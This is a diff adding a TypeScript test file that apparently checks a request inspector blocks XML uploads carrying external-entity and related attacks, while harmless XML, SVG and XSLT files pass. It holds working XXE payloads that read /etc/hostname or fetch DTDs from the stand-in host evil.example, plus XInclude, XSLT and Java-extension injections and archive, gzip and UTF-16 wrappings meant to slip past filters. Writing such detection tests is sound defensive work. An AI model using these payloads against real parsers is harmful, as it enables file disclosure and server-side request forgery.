@@ -1,0 +1,166 @@
+import assert from 'node:assert/strict'
+import { describe, test } from 'node:test'
+import { deflateRawSync, gzipSync } from 'node:zlib'
+import { inspect } from '../src/inspect.ts'
+
+const ENTITY = '<!ENTITY x SYSTEM "file:///etc/hostname">'
+const LICENCE = `<!--${' a licence, "quoted" <in> it\'s words ]>'.repeat(400)}-->`
+
+/** Prologs that have a parser fetch something, or grow without end. */
+const PROLOGS: Readonly<Record<string, string>> = {
+  'an entity': `<!DOCTYPE r [${ENTITY}]>`,
+  'an entity with a name in another script':
+    '<!DOCTYPE r [<!ENTITY \u4e2d\u6587 SYSTEM "file:///etc/hostname">]>',
+  'a parameter entity': '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
+  'an entity that writes another': '<!DOCTYPE r [<!ENTITY % a "&#60;!ENTITY b SYSTEM \'x\'>"> %a;]>',
+  'entities of entities': '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY x "&a;&a;&a;&a;">]>',
+  'a foreign type': '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">',
+  'a foreign type with a public id':
+    '<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://evil.example/x.dtd">',
+  'a host that only begins as a known one': '<!DOCTYPE r SYSTEM "http://www.w3.org.evil.example/x.dtd">',
+  'a known host as a user': '<!DOCTYPE r SYSTEM "http://www.w3.org:x@evil.example/x.dtd">',
+  'a scheme that Java opens': '<!DOCTYPE r SYSTEM "netdoc:/etc/hostname">',
+  'a long comment before': `${LICENCE}<!DOCTYPE r [${ENTITY}]>`,
+  'a long comment within': `<!DOCTYPE r [${LICENCE}${ENTITY}]>`,
+  'an instruction before': `<?a ${'b '.repeat(6000)}?><!DOCTYPE r [${ENTITY}]>`,
+  'line ends before': `${'\n'.repeat(20_000)}<!DOCTYPE r [${ENTITY}]>`,
+  'line ends within': `<!DOCTYPE r [${ENTITY.replaceAll(' ', '\n'.repeat(300))}]>`,
+}
+
+interface Entry {
+  readonly name: string
+  readonly content: Buffer
+  readonly isStored?: boolean
+}
+
+/** A ZIP archive; `said` is what local headers say of how entries are stored, whatever they are. */
+function zip(entries: readonly Entry[], said?: number): Buffer {
+  return Buffer.concat(
+    entries.map(({ name, content, isStored = false }) => {
+      const stored = isStored ? content : deflateRawSync(content)
+      const header = Buffer.alloc(30)
+      header.write('PK\u0003\u0004', 'latin1')
+      header.writeUInt16LE(said ?? (isStored ? 0 : 8), 8)
+      header.writeUInt16LE(Buffer.byteLength(name), 26)
+      return Buffer.concat([header, Buffer.from(name), stored])
+    }),
+  )
+}
+
+const TYPES: Entry = {
+  name: '[Content_Types].xml',
+  content: Buffer.from(
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
+  ),
+}
+const PICTURE: Entry = {
+  name: 'word/media/a.png',
+  content: Buffer.from([0x89, 0x50, 0x4e, 0x47, ...Array.from({ length: 4000 }, (_, i) => (i * 7919) & 255)]),
+  isStored: true,
+}
+
+function inUtf16(text: string): Buffer {
+  return Buffer.from(`\ufeff${text}`, 'utf16le')
+}
+
+/** Files in which programs find a document. */
+const FILES: Readonly<Record<string, readonly [name: string, write: (document: string) => Buffer]>> = {
+  XML: ['a.xml', document => Buffer.from(document)],
+  'a drawing': ['a.svg', document => Buffer.from(document)],
+  'a document with a name of its own': ['a.drawio', document => Buffer.from(document)],
+  'a document called a picture': ['a.png', document => Buffer.from(document)],
+  'UTF-16': ['a.xml', inUtf16],
+  'a compressed drawing': ['a.svgz', document => gzipSync(document)],
+  'a compressed site map': ['sitemap.xml.gz', document => gzipSync(document)],
+  docx: ['a.docx', d => zip([TYPES, PICTURE, { name: 'word/document.xml', content: Buffer.from(d) }])],
+  'xlsx, stored': [
+    'a.xlsx',
+    d => zip([TYPES, { name: 'xl/workbook.xml', content: Buffer.from(d), isStored: true }]),
+  ],
+  'pptx in UTF-16': ['a.pptx', d => zip([TYPES, { name: 'ppt/p.xml', content: inUtf16(d) }])],
+  'odt with a name that tells nothing': ['a.odt', d => zip([{ name: 'a.bin', content: Buffer.from(d) }])],
+  'epub, called stored': ['a.epub', d => zip([TYPES, { name: 'c.opf', content: Buffer.from(d) }], 0)],
+}
+
+function upload(name: string, content: Buffer): string {
+  const head = `--b\r\nContent-Disposition: form-data; name="f"; filename="${name}"\r\nContent-Type: application/x-any\r\n\r\n`
+  const body = Buffer.concat([Buffer.from(head), content, Buffer.from('\r\n--b--\r\n')])
+  const headers = ['content-type', 'multipart/form-data; boundary=b']
+  return inspect({ method: 'POST', target: '/import', headers, body }).verdict
+}
+
+function put(name: string, content: Buffer): string {
+  const headers = ['content-type', 'application/octet-stream']
+  return inspect({ method: 'PUT', target: `/files/${name}`, headers, body: content }).verdict
+}
+
+describe('files whose documents have a parser fetch something', () => {
+  for (const [what, prolog] of Object.entries(PROLOGS))
+    test(what, () => {
+      for (const [kind, [name, write]] of Object.entries(FILES)) {
+        assert.equal(upload(name, write(`${prolog}<r>&x;</r>`)), 'block', kind)
+        if (name.endsWith('x')) assert.equal(put(name, write(`${prolog}<r>&x;</r>`)), 'block', `${kind}, put`)
+      }
+    })
+
+  test('a prolog without end in an archive is beyond a bound', () => {
+    const endless = zip([{ name: 'a.xml', content: Buffer.from(`${' '.repeat(1 << 20)}<r/>`) }])
+    assert.equal(upload('a.docx', endless), 'too-big')
+  })
+
+  test('elements and stylesheets', () => {
+    const far = '<p>words</p>'.repeat(2_000)
+    const sheet = (within: string): string =>
+      `<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0">${far}${within}</x:stylesheet>`
+    for (const document of [
+      `<r xmlns:q="http://www.w3.org/2001/XInclude">${far}<q:include parse="text" href="file:///etc/hostname"/></r>`,
+      `<r>${far}<include href="/etc/hostname" xmlns="http://www.w3.org/2001/XInclude"/></r>`,
+      sheet("<a b=\"{document('a.xml')}{document('http://evil.example/')}\"/>"),
+      sheet('<x:import href="http://evil.example/a.xsl"/>'),
+      sheet('<m:script implements-prefix="u" language="C#"/>'),
+      sheet('<a xmlns:o="http://www.oracle.com/XSL/Transform/java/java.lang.Runtime"/>'),
+      sheet('<s:result-document href="file:///tmp/a"/>'),
+      `<svg xmlns="http://www.w3.org/2000/svg">${far}<use href="file:///etc/hostname"/></svg>`,
+    ]) {
+      assert.equal(
+        upload('a.xml', Buffer.from(document)),
+        'block',
+        document.slice(0, 80) + document.slice(-120),
+      )
+      assert.equal(upload('a.xml', inUtf16(document)), 'block')
+    }
+  })
+})
+
+describe('honest files', () => {
+  for (const [name, document] of [
+    [
+      'a.svg',
+      '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY ns_ai "http://ns.adobe.com/a/">]><svg xmlns="&ns_svg;"><use href="#a"/></svg>',
+    ],
+    [
+      'fonts.conf',
+      '<?xml version="1.0"?><!DOCTYPE fontconfig SYSTEM "urn:fontconfig:fonts.dtd"><fontconfig/>',
+    ],
+    [
+      'manifest.xml',
+      '<!DOCTYPE manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><manifest/>',
+    ],
+    [
+      'a.xhtml',
+      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd"><html/>',
+    ],
+    [
+      'a.xsl',
+      '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="../common.xsl"/><xsl:value-of select="document(\'names.xml\')/a"/></xsl:stylesheet>',
+    ],
+    ['about-xxe.md', `<p>An attack:</p><!DOCTYPE r [${ENTITY}]>`],
+    ['a.dtd', '<!ENTITY % xhtml PUBLIC "-//W3C//ELEMENTS XHTML 1.0//EN" "xhtml.mod"> %xhtml;'],
+  ] as const)
+    test(name, () => {
+      const content = Buffer.from(document)
+      assert.equal(upload(name, content), 'pass')
+      assert.equal(upload('a.docx', zip([TYPES, PICTURE, { name: 'a/b.xml', content }, TYPES])), 'pass')
+      assert.equal(upload(`${name}.gz`, gzipSync(content)), 'pass')
+    })
+})
